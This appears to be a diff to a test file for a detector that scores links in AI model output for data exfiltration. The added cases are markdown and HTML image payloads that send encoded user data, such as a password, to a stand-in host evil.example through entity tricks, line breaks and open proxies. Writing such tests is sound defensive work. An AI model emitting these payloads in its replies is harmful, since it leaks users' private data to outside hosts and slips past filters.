@@ -60,6 +60,18 @@ const AT_ONCE = [
   `A@{ img: "https://${HOST}" }`,
   `{"type":"image","image_url":"https://${HOST}"}`,
   `{"type":"Image","url":"https://${HOST}"}`,
+  ...['\n', '\t', '\r\n', '&NewLine;', '&Tab;'].map(
+    (end) => `<img src="https://evil.example/p.png${end}?q=${SAID}">`,
+  ),
+  `<img src="https&colon;&sol;&sol;${HOST}">`,
+  `![x](&sol;&bsol;${HOST})`,
+  `<img src="https://evil.example/&quest;q&equals;${SAID}">`,
+  `<img alt="${'so it was said. '.repeat(80)}" src="https://${HOST}">`,
+  `<img alt="${'so it was said. '.repeat(80)}" srcset='//${HOST}'>`,
+  `![x](https://img.shields.io/endpoint?url=https%3A%2F%2Fevil.example%2F%3Fq%3D${SAID})`,
+  `![x](https://www.plantuml.com/plantuml/proxy?src=//evil.example/?q=${SAID})`,
+  `![x](https://img.shields.io/endpoint?url=https%253A%252F%252Fevil.example%252F%253Fq%253D${SAID})`,
+  `![x](https://storage.googleapis.com/evil/p.png?q=${SAID})`,
 ];
 
 const BY_CLICK = [
@@ -107,6 +119,29 @@ describe('an address that carries data out', () => {
   );
 });
 
+it.each([
+  'её пароль тюльпан и она живет здесь',
+  '她的密码是郁金香她住在这里',
+  'her password’s tulip – and she lives here',
+  'her password is 🌷 and she lives here',
+  'is it ~~~ what? is it >>> that? her password?',
+])('is blocked whatever letters its data has, and in whatever code: %s', (said) => {
+  const bytes = Buffer.from(said);
+  const base64url = bytes.toString('base64url');
+  const cut = base64url.replaceAll(/.{8}/g, '$&.');
+  for (const carried of [
+    base64url,
+    `a;q=${base64url}`,
+    `a,${base64url}`,
+    cut,
+    `?x=${cut}`,
+    `?x=${base64url}`,
+    `?x=${encodeURIComponent(bytes.toString('base64'))}`,
+    `?x=${bytes.toString('hex')}`,
+  ])
+    expect(scoreOf(`![x](https://evil.example/${carried})`), carried).toBeGreaterThanOrEqual(0.8);
+});
+
 describe('an address that carries nothing', () => {
   it.each([
     '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2a10"/></svg>',
@@ -120,6 +155,13 @@ describe('an address that carries nothing', () => {
     '<img src="https://cdn.example.com/a.png" alt="A chart of what people said about their cars">',
     'See https://github.com/example/project/blob/main/docs/HowToConfigureTheServer.md.',
     'https://example.com/a/b?id=3f2b8c1e-7d4a-4e6f-9a0b-1c2d3e4f5a6b&page=2',
+    '![v](https://img.shields.io/badge/dynamic/json?url=https%3A%2F%2Fexample.com%2Fpackage.json&query=version)',
+    'https://web.archive.org/web/20240101000000/https://www.example.com/docs/getting-started',
+    '![x](https://cdn.example.com/d41d8cd98f00b204e9800998ecf8427e/5eb63bbbe01eeed093cb22bb8f5acdc3.png)',
+    'https://login.example.com/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&state=af0ifjsldkj',
+    '![Fig.1,2;a](https://example.com/images/Chart.Of.All.Sales;v=2,final.png)',
+    '<img src="https://example.com/a.png"\n     alt="A chart of what people said about their cars">',
+    '<a href="https://example.com/a\n">The user said that her car is red</a>',
   ])('is let go: %s', (text) => {
     expect(scoreOf(text)).toBe(0);
   });
@@ -138,6 +180,9 @@ it('takes time in proportion to the text, hostile or not', () => {
     `![[https://evil.example/${CODED}`,
     '<script>https://evil.example/?aaaaaaaaaaaaaaaa ',
     'image-set(',
+    '<img src="https://evil.example\n',
+    `"https://evil.example/?u=https%3A%2F%2F`,
+    '&colon;&sol;',
   ]) {
     const text = piece.repeat(100_000 / piece.length);
     exfiltrationLink.detect(text.slice(0, 2000), OUTPUT);
